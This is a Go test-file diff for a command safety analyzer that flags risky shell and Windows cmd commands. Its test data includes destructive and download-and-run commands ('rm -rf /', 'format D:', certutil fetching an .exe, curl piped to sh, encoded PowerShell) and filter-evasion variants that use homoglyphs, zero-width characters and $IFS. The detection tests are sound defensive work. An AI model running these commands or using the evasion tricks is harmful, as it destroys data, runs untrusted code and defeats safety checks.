@@ -119,6 +119,24 @@ func TestAnalyzer_AnalyzeCommand_AttentionPatterns(t *testing.T) {
 		{"sudo with dangerous rm", "sudo rm -rf /var/log/*", Attention},
 		{"multiple sudo", "sudo apt update && sudo apt upgrade", Attention},
 		{"quoted sudo", "echo 'sudo ls' > script.sh", Attention}, // Still matches sudo pattern
+		
+		// Quoting and escaping evasions
+		{"split by empty quotes", "su''do ls", Attention},
+		{"escaped letter", `r\m -rf /`, Attention},
+		{"double-quoted flag", `rm "-rf" /`, Attention},
+		{"line continuation", "su\\\ndo ls", Attention},
+
+		// Unicode and whitespace evasions
+		{"zero-width space", "su\u200bdo ls", Attention},
+		{"zero-width joiner in flag", "rm -\u200drf /", Attention},
+		{"cyrillic homoglyph", "ѕudo ls", Attention},
+		{"greek homoglyph", "mοunt /dev/sdb1 /mnt", Attention},
+		{"fullwidth letters", "ｓｕｄｏ ls", Attention},
+		{"tab separator", "rm\t-rf /", Attention},
+		{"no-break space", "rm\u00a0-rf /", Attention},
+		{"IFS separator", "rm$IFS-rf /", Attention},
+		{"braced IFS separator", "rm${IFS}-rf${IFS}/", Attention},
+		{"IFS with empty parameter", "rm$IFS$9-rf /", Attention},
 	}
 	
 	for _, tt := range tests {
@@ -338,6 +356,84 @@ func BenchmarkAnalyzer_AnalyzeCommand_Safe(b *testing.B) {
 	}
 }
 
+func TestCmdAnalyzer_AnalyzeCommand(t *testing.T) {
+	analyzer := NewAnalyzerFor(TargetCmd)
+	ctx := context.Background()
+	
+	tests := []struct {
+		name    string
+		command string
+		want    SafetyLevel
+	}{
+		// Destructive file operations
+		{"del recursive quiet", `del /s /q C:\temp\*`, Attention},
+		{"erase quiet", `erase /q *.log`, Attention},
+		{"rd recursive", `rd /s /q build`, Attention},
+		{"rmdir recursive uppercase", `RMDIR /S dist`, Attention},
+		{"format drive", "format D: /fs:NTFS", Attention},
+		{"cipher wipe", `cipher /w:C:\`, Attention},
+		
+		// System configuration
+		{"reg add", `reg add HKLM\Software\Foo /v Bar /t REG_SZ /d baz`, Attention},
+		{"reg delete", `reg delete HKCU\Software\Foo /f`, Attention},
+		{"sc delete", "sc delete MyService", Attention},
+		{"net user", "net user admin P@ss /add", Attention},
+		{"schtasks create", `schtasks /create /tn backup /tr C:\backup.bat /sc daily`, Attention},
+		{"shutdown restart", "shutdown /r /t 0", Attention},
+		{"encoded powershell", "powershell -enc SQBFAFgA", Attention},
+		{"certutil download", "certutil -urlcache -split -f http://x/a.exe a.exe", Attention},
+		
+		// Safe commands
+		{"dir", "dir /s *.txt", Safe},
+		{"type", "type README.md", Safe},
+		{"findstr", `findstr /i "error" app.log`, Safe},
+		{"del single file", "del notes.txt", Safe},
+		{"reg query", `reg query HKCU\Software`, Safe},
+		{"tasklist", "tasklist /fi \"imagename eq node.exe\"", Safe},
+	}
+	
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			result, err := analyzer.AnalyzeCommand(ctx, tt.command)
+			if err != nil {
+				t.Errorf("AnalyzeCommand() error = %v", err)
+				return
+			}
+			if result.Level != tt.want {
+				t.Errorf("AnalyzeCommand(%q) = %v, want %v", tt.command, result.Level, tt.want)
+			}
+		})
+	}
+}
+
+func TestNewAnalyzerFor_DefaultsToPosix(t *testing.T) {
+	ctx := context.Background()
+	for _, target := range []string{"", TargetPosix, "unknown"} {
+		result, _ := NewAnalyzerFor(target).AnalyzeCommand(ctx, "sudo ls")
+		if result.Level != Attention {
+			t.Errorf("NewAnalyzerFor(%q) did not use POSIX patterns", target)
+		}
+	}
+}
+
+func TestAnalyzer_AttentionExplanations(t *testing.T) {
+	for _, analyzer := range []*Analyzer{NewAnalyzer(), NewCmdAnalyzer()} {
+		for _, pattern := range analyzer.attentionPatterns {
+			if pattern.description == "" {
+				t.Errorf("attention pattern %s has no description", pattern.re)
+			}
+		}
+	}
+
+	result, _ := NewAnalyzer().AnalyzeCommand(context.Background(), "curl -fsSL https://example.com/install.sh | sh")
+	if result.Reason != "Flagged because it pipes a remote script into a shell" {
+		t.Errorf("Reason = %q, want the pattern's description", result.Reason)
+	}
+	if result.Docs != "https://man7.org/linux/man-pages/man1/curl.1.html" {
+		t.Errorf("Docs = %q, want the curl manual page", result.Docs)
+	}
+}
+
 func BenchmarkAnalyzer_AnalyzeCommand_Attention(b *testing.B) {
 	analyzer := NewAnalyzer()
 	ctx := context.Background()